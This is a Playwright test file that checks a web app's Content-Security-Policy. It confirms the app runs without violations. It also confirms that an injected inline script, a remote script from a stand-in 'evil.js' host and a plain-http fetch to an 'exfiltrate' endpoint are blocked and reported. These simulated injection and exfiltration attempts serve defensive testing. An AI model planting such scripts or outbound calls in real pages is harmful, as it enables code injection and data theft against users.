/**
 * The app's Content-Security-Policy (src/pwa/csp.ts): the built app loads and runs the example
 * under it without a single violation, and what the policy forbids — a remote script, inline
 * script, a connection to a host that is not https — is blocked and reported on the console.
 */
import { expect, test, type Page } from '@playwright/test';
import { stepNode } from './editor.helpers';

test.use({ serviceWorkers: 'block', viewport: { width: 1400, height: 900 } });

/** Console messages that report a violation, collected from now on. */
function violations(page: Page): string[] {
  const seen: string[] = [];
  page.on('console', (message) => {
    if (message.text().includes('Content-Security-Policy')) seen.push(message.text());
  });
  return seen;
}

test('the built app runs its example under the policy, with no violation', async ({ page }) => {
  const seen = violations(page);
  const response = await page.goto('/');
  expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(meta).toHaveAttribute('content', /default-src 'self'.*'wasm-unsafe-eval'/);
  await expect(meta).toHaveAttribute('content', /object-src 'none'/);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(stepNode(page, 'sort').locator('.node-status.done')).toContainText('4 rows', {
    timeout: 60_000,
  });
  expect(seen).toEqual([]);
});

test('a remote script, inline script and a plain-http connection are blocked and reported', async ({
  page,
}) => {
  const seen = violations(page);
  await page.goto('/');
  await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const w = window as unknown as { injected?: boolean };
    const inline = document.createElement('script');
    inline.textContent = 'window.injected = true';
    document.head.append(inline);
    const remote = document.createElement('script');
    remote.src = 'https://cdn.example.com/evil.js';
    const remoteLoaded = new Promise<string>((resolve) => {
      remote.onload = () => resolve('loaded');
      remote.onerror = () => resolve('blocked');
    });
    document.head.append(remote);
    let fetched = 'fetched';
    try {
      await fetch('http://example.com/exfiltrate');
    } catch {
      fetched = 'blocked';
    }
    return { inline: w.injected === true, remote: await remoteLoaded, fetched };
  });
  expect(outcome).toEqual({ inline: false, remote: 'blocked', fetched: 'blocked' });
  await expect.poll(() => seen.join('\n')).toMatch(/blocked inline code \(script-src-elem\)/);
  expect(seen.join('\n')).toContain('blocked https://cdn.example.com/evil.js (script-src-elem)');
  expect(seen.join('\n')).toContain('blocked http://example.com/exfiltrate (connect-src)');
});
